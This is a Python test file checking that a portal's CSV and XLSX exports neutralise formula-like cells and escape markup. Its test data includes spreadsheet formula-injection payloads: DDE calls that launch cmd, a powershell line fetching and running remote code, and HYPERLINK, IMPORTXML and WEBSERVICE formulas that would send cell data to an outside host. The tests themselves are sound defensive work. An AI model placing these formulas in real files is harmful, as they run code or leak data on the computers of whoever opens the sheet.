"""Cells that a spreadsheet could run or misread: each comes out exactly as listed, in both files."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.web.sheets import Head, Kind, Workbook, answer, csv_file
from tests.sheets import read

NOW = datetime(2026, 7, 1, 9, 30, tzinfo=UTC)

# What was typed and, where it is another, what a CSV has: a quote mark before it. A sheet always
# has what was typed. 71 cells (trust.md C13).
QUOTED = (
    "=1+1",
    "=SUM(A1:A9)",
    "=A1",
    "=",
    "==1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell IEX(wget 0r.pe/p)'!_xlbgnm.A1",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
    '=WEBSERVICE("http://example.org/")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=1+1";=2+2',
    "=\n1",
    "+1",
    "+44 1685 555 019",
    "+cmd|' /C calc'!A0",
    "+A1",
    "-1",
    "-5",
    "-12.50",
    "-A1",
    "-2+3+cmd|' /C calc'!A0",
    "- a list",
    "--help",
    "@SUM(1+9)",
    "@A1",
    "@megan",
    "@",
    "\t=1+1",
    "\tWards 1 and 2",
    "\r=1+1",
    "\rWards",
    "\n=1+1",
    "\nWards",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    " -1",
    " @A1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200e-1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x0b=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
AS_TYPED = (
    "Nurses",
    "1=1",
    "2 + 2",
    "3-7",
    "megan@example.org",
    "– a dash",
    "—",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "a\n=1+1",
    "a;=1+1;b",
    "0012",
    "1E5",
    "TRUE",
    "http://example.org/",
    "mailto:megan@example.org",
    "_x003D_1+1",
)
CELLS = [*((text, f"'{text}") for text in QUOTED), *((text, text) for text in AS_TYPED)]
# More that only a sheet could misread: markup that its library knows, and what XML does not have.
MARKUP = (
    ("<r><t>bold</t></r>", "<r><t>bold</t></r>"),
    ("<r></is></c><c><f>1+1</f></c></r>", "<r></is></c><c><f>1+1</f></c></r>"),
    ("a & b < c > d", "a & b < c > d"),
    ("]]>", "]]>"),
    ("\x01\x08", "\x01\x08"),
    ("lost\ufffe\uffff", "lost\ufffd\ufffd"),
    ("Nyrsys â ŵ 👩‍⚕️ مرحبا", "Nyrsys â ŵ 👩‍⚕️ مرحبا"),
)


def test_there_are_seventy_one():
    assert len(dict(CELLS)) == 71


def in_csv(text: str) -> str:
    found = csv_file((Head("Words"),), [(text,)]).decode("utf-8-sig")
    return list(csv.reader(StringIO(found, newline="")))[1][0]


def in_sheet(text: str) -> str:
    book = Workbook("A list", NOW)
    book.sheet("List", (Head("Words"),)).add((text,))
    return read(book.finish())["List"].rows[0]["Words"]


@pytest.mark.parametrize(("typed", "comes_out"), CELLS, ids=[repr(typed) for typed, _ in CELLS])
def test_a_cell_of_words_comes_out_as_listed(typed, comes_out):
    assert in_csv(typed) == comes_out
    assert in_sheet(typed) == typed


@pytest.mark.parametrize(("typed", "comes_out"), MARKUP, ids=[repr(typed) for typed, _ in MARKUP])
def test_nothing_typed_is_markup_of_a_sheet(typed, comes_out):
    assert in_sheet(typed) == comes_out


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff")))
def test_any_words_come_back_from_a_sheet(text):
    book = Workbook("A list", NOW)
    book.sheet("List", (Head("Words"), Head("Is"))).add((text, "there"))
    row = read(book.finish())["List"].rows[0]
    # what XML makes of line ends, and nothing else
    assert row.get("Words", "") == text


HEADS = (
    Head("Money", Kind.MONEY),
    Head("Hours", Kind.HUNDREDTHS),
    Head("How many", Kind.WHOLE),
    Head("Day", Kind.DAY),
    Head("Sent", Kind.MOMENT),
)
ROW = (1_234_567_89, 750, 3, date(2027, 4, 6), datetime(2026, 7, 1, 9, 30, tzinfo=UTC))


def test_numbers_and_dates_are_real_ones_in_a_sheet():
    book = Workbook("A list", NOW)
    book.sheet("List", HEADS).add(ROW)
    row = read(book.finish())["List"].rows[0]
    assert row["Money"] == Decimal("1234567.89")
    assert row["Hours"] == Decimal("7.5")
    assert row["How many"] == 3
    assert row["Day"] == (date(2027, 4, 6) - date(1899, 12, 30)).days
    assert row["Sent"] % 1 * 24 == Decimal("10.5"), "British Summer Time"


def test_the_same_in_a_csv_file_is_text_that_sorts():
    found = csv_file(HEADS, [ROW, (-5, -50, -1, None, None)]).decode("utf-8-sig")
    assert found.splitlines()[1:] == [
        "1234567.89,7.50,3,2027-04-06,2026-07-01 10:30",
        "-0.05,-0.50,-1,,",
    ]


@given(st.lists(st.integers(0, 99_999_999_999_99), max_size=5))
def test_every_penny_comes_back(amounts):
    book = Workbook("A list", NOW)
    sheet = book.sheet("List", (Head("Money", Kind.MONEY),))
    for pence in amounts:
        sheet.add((pence,))
    assert [pounds * 100 for pounds in read(book.finish())["List"].column("Money")] == amounts


def test_a_sheet_without_rows_has_its_heads():
    book = Workbook("A list", NOW)
    book.sheet("List", HEADS)
    assert read(book.finish())["List"].heads == tuple(head.label for head in HEADS)


def test_it_is_handed_out_as_a_file_to_keep_and_kept_by_nobody_else():
    response = answer("c0001-2026-11-23.xlsx", b"PK")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == 'attachment; filename="c0001-2026-11-23.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    assert answer("a.csv", b"").mimetype == "text/csv"
